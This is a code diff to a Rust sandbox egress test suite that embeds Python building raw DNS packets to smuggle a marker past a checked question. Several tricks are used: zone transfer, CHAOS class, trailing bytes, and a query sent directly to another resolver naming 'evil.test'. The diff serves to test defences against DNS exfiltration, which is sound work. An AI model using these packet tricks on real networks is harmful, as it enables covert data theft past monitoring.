@@ -554,7 +554,8 @@ fn egress(hits: &Hits) -> Vec<Row> {
 
 /// Raw DNS packets the guest builds itself, each smuggling a marker somewhere the one checked
 /// question is not.
-const DNS_ATTACK: &str = r#"
+/// Python that builds raw DNS packets, for the DNS attack scripts.
+const DNS_PACKETS: &str = r#"
 import json, random, socket, struct
 def name(n):
     return b''.join(bytes([len(p)]) + p.encode() for p in n.split('.')) + b'\0'
@@ -568,6 +569,18 @@ def rr(n, t=1, data=b'\x01\x02\x03\x04'):
 def opt(code, data):
     o = struct.pack('>HH', code, len(data)) + data
     return b'\0' + struct.pack('>HHIH', 41, 1232, 0, len(o)) + o
+def ask(dest, p):
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.settimeout(4)
+    s.sendto(p, (dest, 53))
+    try:
+        r = s.recv(2048)
+        return 'rcode %d' % (r[3] & 15)
+    except Exception as e:
+        return repr(e)
+"#;
+
+const DNS_ATTACK: &str = r#"
 M = '@@M@@'
 attacks = {
     'control': packet(qs=[q('control-@@M@@.open.test')]),
@@ -583,20 +596,20 @@ attacks = {
     'zone transfer': packet(qs=[q(M + '-axfr.open.test', 252)]),
     'CHAOS class': packet(qs=[name(M + '-ch.open.test') + struct.pack('>HH', 16, 3)]),
     'trailing bytes': packet(qs=[q('open.test')]) + (M + '-trail').encode(),
-    'another server': packet(qs=[q(M + '-srv.evil.test')]),
 }
-out = {}
-for what, p in attacks.items():
-    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-    s.settimeout(4)
-    # (The default DNS mode answers a query to any server itself; a documentation address, so
-    # nothing could leave even if it did not.)
-    s.sendto(p, ('203.0.113.53' if what == 'another server' else gw, 53))
-    try:
-        r = s.recv(2048)
-        out[what] = 'rcode %d' % (r[3] & 15)
-    except Exception as e:
-        out[what] = repr(e)
+out = {what: ask(gw, p) for what, p in attacks.items()}
+print(json.dumps(out))
+print('SCRIPT-DONE')
+"#;
+
+/// A query sent straight to a resolver the guest may reach, carrying the marker where the
+/// checked question never does; the control goes to the gateway.
+const DNS_ELSEWHERE: &str = r#"
+M = '@@M@@'
+out = {
+    'control': ask(gw, packet(qs=[q('control-' + M + '.open.test')])),
+    'another server': ask('@@R@@', packet(qs=[q('open.test')], ar=[rr(M + '-srv.evil.test')])),
+}
 print(json.dumps(out))
 print('SCRIPT-DONE')
 "#;
@@ -611,7 +624,7 @@ fn dns_exfiltration(hits: &Hits) -> Vec<Row> {
             "--dns-servers",
             RESOLVER,
         ],
-        &DNS_ATTACK.replace("@@M@@", marker),
+        &format!("{DNS_PACKETS}{DNS_ATTACK}").replace("@@M@@", marker),
     );
     std::thread::sleep(Duration::from_millis(800));
     let seen = hits_with(hits, marker);
@@ -625,11 +638,37 @@ fn dns_exfiltration(hits: &Hits) -> Vec<Row> {
         .filter(|h| !h.contains("control-"))
         .cloned()
         .collect();
-    vec![Row {
+    let mut rows = vec![Row {
         attack: "DNS exfiltration past the checked question".into(),
-        tried: 13,
+        tried: 12,
         leaked,
-    }]
+    }];
+
+    // Not intercepting, with the resolver's own address opened to the guest: a raw query sent
+    // straight to it is still answered by matchlock (the default, trusted DNS mode), never
+    // relayed, so what it carries beyond the checked question does not arrive.
+    let marker = "mlrtdnsy";
+    let out = python(
+        &["--dns-servers", RESOLVER, "--allow-private-host", RESOLVER],
+        &format!("{DNS_PACKETS}{DNS_ELSEWHERE}")
+            .replace("@@M@@", marker)
+            .replace("@@R@@", RESOLVER),
+    );
+    std::thread::sleep(Duration::from_millis(800));
+    let seen = hits_with(hits, marker);
+    assert!(
+        seen.iter().any(|h| h.contains("control-")),
+        "dns: the control query never reached the resolver: {out}"
+    );
+    rows.push(Row {
+        attack: "a DNS query sent straight to another server".into(),
+        tried: 1,
+        leaked: seen
+            .into_iter()
+            .filter(|h| !h.contains("control-"))
+            .collect(),
+    });
+    rows
 }
 
 /// The secrets attack script: requests that try to get a secret out in clear text or to the
